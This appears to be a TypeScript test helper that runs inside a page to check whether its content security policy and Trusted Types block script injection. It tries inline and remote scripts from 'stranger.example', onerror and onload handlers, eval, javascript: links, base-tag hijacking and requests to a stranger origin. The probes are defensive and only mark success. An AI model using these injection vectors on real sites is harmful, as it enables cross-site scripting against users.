/**
 * What somebody would try whose text reached a page. Each function runs in the page, in any browser: it is sent there as
 * text, so it uses nothing from outside.
 */

/** Tries to run a script in every way there is. Resolves to the ways that worked. */
export async function tryToRunHere(): Promise<string[]> {
	const reached = new Set<string>();
	Object.assign(window, { reach: (what: string) => reached.add(what) });
	// The debugger may use eval() in its own turn; the page may not in the next.
	await new Promise((resume) => setTimeout(resume));
	const tries: (() => void)[] = [
		() => document.body.append(element('script', { textContent: 'reach("inline")' })),
		() => document.body.append(element('script', { src: 'data:text/javascript,reach("data")' })),
		() => document.body.append(element('script', { src: 'https://stranger.example/x.js' })),
		() =>
			document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="reach(\'onerror\')">'),
		() => (document.body.innerHTML += '<svg onload="reach(\'onload\')"></svg>'),
		() => document.body.setAttribute('onclick', 'reach("onclick")'),
		// eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the attack itself
		() => new Function('reach("function")')() as unknown,
		() => eval('reach("eval")') as unknown,
		// eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack itself
		() => setTimeout('reach("timer")'),
		() =>
			document.body.append(element('iframe', { srcdoc: '<script>parent.reach("frame")</script>' })),
		() => element('a', { href: 'javascript:reach("address")' }).click()
	];
	for (const attempt of tries) {
		try {
			attempt();
		} catch {
			// refused at once, as hoped; a late success would show in `reached`
		}
	}
	document.body.click();
	await new Promise((resume) => setTimeout(resume, 300));
	return [...reached];

	function element<Name extends keyof HTMLElementTagNameMap>(
		name: Name,
		parts: Partial<HTMLElementTagNameMap[Name]>
	): HTMLElementTagNameMap[Name] {
		const made = document.createElement(name);
		for (const [key, value] of Object.entries(parts)) {
			try {
				Object.assign(made, { [key]: value as unknown });
			} catch {
				made.setAttribute(key, String(value)); // past the property’s Trusted Types check
			}
		}
		return made;
	}
}

/** Tries to dress the page, to send it elsewhere and to ask another origin. Resolves to what came of it. */
export async function tryToReachOutHere(stranger: string) {
	const style = document.createElement('style');
	style.textContent = 'body { outline: 7px solid }';
	const base = document.createElement('base');
	base.href = `${stranger}/`;
	const form = document.createElement('form');
	form.action = `${stranger}/`;
	const image = new Image();
	const imageLoad = new Promise<string>((settle) => {
		image.onload = () => settle('loaded');
		image.onerror = () => settle('refused');
	});
	image.src = `${stranger}/x.png`;
	document.head.append(style, base);
	document.body.append(form);
	form.submit();
	const socket = new Promise<string>((settle) => {
		try {
			const opened = new WebSocket(stranger.replace(/^http/, 'ws'));
			opened.onopen = () => settle('opened');
			opened.onerror = () => settle('refused');
		} catch {
			settle('refused');
		}
	});
	const fetched = await fetch(`${stranger}/`).then(
		() => 'answered',
		() => 'refused'
	);
	return {
		outline: getComputedStyle(document.body).outlineWidth,
		baseURI: document.baseURI,
		image: await imageLoad,
		socket: await socket,
		fetched
	};
}

/** Tries to become markup, a script address or a policy. Names how each way ended: an error, or 'allowed'. */
export function tryMarkupHere(): Record<string, string> {
	const tries: Record<string, () => unknown> = {
		innerHTML: () => (document.createElement('p').innerHTML = '<b>x</b>'),
		outerHTML: () => {
			const parent = document.createElement('p');
			parent.append(document.createElement('b'));
			parent.firstElementChild!.outerHTML = '<i>x</i>';
		},
		parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
		range: () => document.createRange().createContextualFragment('<b>x</b>'),
		script: () => (document.createElement('script').src = '/x.js'),
		worker: () => new Worker('/x.js'),
		policy: () =>
			(
				window as unknown as {
					trustedTypes: { createPolicy(name: string, rules: object): void };
				}
			).trustedTypes.createPolicy('stranger', {})
	};
	return Object.fromEntries(
		Object.entries(tries).map(([name, attempt]) => {
			try {
				attempt();
				return [name, 'allowed'];
			} catch (error) {
				return [name, (error as Error).name];
			}
		})
	);
}
